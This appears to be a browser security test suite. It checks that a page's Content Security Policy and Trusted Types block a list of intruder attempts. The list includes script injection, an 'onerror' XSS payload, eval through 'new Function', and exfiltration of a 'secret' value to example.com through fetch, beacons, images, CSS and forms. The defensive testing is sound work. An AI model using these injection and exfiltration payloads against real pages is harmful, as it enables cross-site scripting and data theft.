import assert from "node:assert/strict";
import { after, afterEach, before } from "node:test";
import { open } from "./lib/browser.mjs";
import { eventually, test } from "./lib/test.mjs";

let chromium;
before(async () => {
  chromium = await open();
});
afterEach(() => chromium.closePages());
after(() => chromium.close());

const started = async () => {
  const opened = await chromium.newPage();
  await opened.page.goto(chromium.site.url);
  await opened.page.locator("[data-column=outcome] .verdict").first().waitFor();
  return opened;
};

/** What the page tries, as an intruder in it would, and the directive that must stop it. */
const ATTEMPTS = {
  "a script in the page": ["require-trusted-types-for", () => {
    const script = document.createElement("script");
    script.textContent = "globalThis.intruder = true";
    document.head.append(script);
  }],
  "a module of another host": ["script-src-elem", () => import("https://example.com/a.js")],
  "an address as a script": ["require-trusted-types-for", () => {
    const script = document.createElement("script");
    script.src = "https://example.com/a.js";
    document.head.append(script);
  }],
  "an event handler": ["require-trusted-types-for", () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "globalThis.intruder = true");
    document.body.append(button);
    button.click();
  }],
  "markup from text": ["require-trusted-types-for", () => {
    document.body.innerHTML = "<img src=x onerror='globalThis.intruder = true'>";
  }],
  "another policy of types": ["trusted-types", () => {
    trustedTypes.createPolicy("intruder", { createHTML: (text) => text });
  }],
  "code from text": ["require-trusted-types-for", () => {
    new Function("globalThis.intruder = true")();
  }],
  "a worker of another host": ["require-trusted-types-for", () => new Worker("https://example.com/a.js")],
  "a worker from text": ["require-trusted-types-for", () => new Worker(URL.createObjectURL(new Blob([""])))],
  "a request": ["connect-src", () => fetch("https://example.com/")],
  "a web socket": ["connect-src", () => new WebSocket("wss://example.com/")],
  "a beacon": ["connect-src", () => navigator.sendBeacon("https://example.com/", "secret")],
  "a picture": ["img-src", () => {
    document.body.append(Object.assign(new Image(), { src: "https://example.com/?secret" }));
  }],
  "a style": ["style-src-elem", () => {
    const style = document.createElement("style");
    style.append("body { background: url(https://example.com/?secret) }");
    document.head.append(style);
  }],
  "a style sheet": ["style-src-elem", () => {
    const link = document.createElement("link");
    document.head.append(Object.assign(link, { rel: "stylesheet", href: "https://example.com/a.css" }));
  }],
  "a style attribute": ["style-src-attr", () => {
    document.body.setAttribute("style", "background: url(https://example.com/?secret)");
  }],
  "a font": ["font-src", () => new FontFace("a", "url(https://example.com/a.woff2)").load()],
  "a frame": ["frame-src", () => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: "https://example.com/" }));
  }],
  "an object": ["require-trusted-types-for", () => {
    document.body.append(Object.assign(document.createElement("object"), { data: "https://example.com/" }));
  }],
  "a form": ["form-action", () => {
    const form = Object.assign(document.createElement("form"), { action: "https://example.com/" });
    document.body.append(form);
    form.submit();
  }],
  "another base": ["base-uri", () => {
    document.head.append(Object.assign(document.createElement("base"), { href: "https://example.com/" }));
  }],
};

for (const [name, [directive, attempt]] of Object.entries(ATTEMPTS)) {
  test(`the policy of the page stops ${name}`, async () => {
    const { page, outside } = await started();
    await page.evaluate(() => {
      globalThis.stopped = [];
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.push(effectiveDirective));
    });
    // In a task of its own: what the debugger itself evaluates, the policy does not bind.
    await page.evaluate(`void setTimeout(${attempt})`);
    await page.waitForFunction(() => stopped.length > 0);
    await eventually(async () => assert.equal(await page.evaluate(() => stopped[0]), directive));
    await eventually(async () => assert.equal(await page.evaluate(() => globalThis.intruder), undefined));
    assert.deepEqual(outside, []);
  });
}

test("a page that asks for something outside is found out, though its test does not look", async () => {
  const { page } = await chromium.newPage();
  await page.evaluate(() => fetch("https://example.com/secret").catch(() => {}));
  await assert.rejects(chromium.closePages(), /https:\/\/example\.com\/secret/);
});
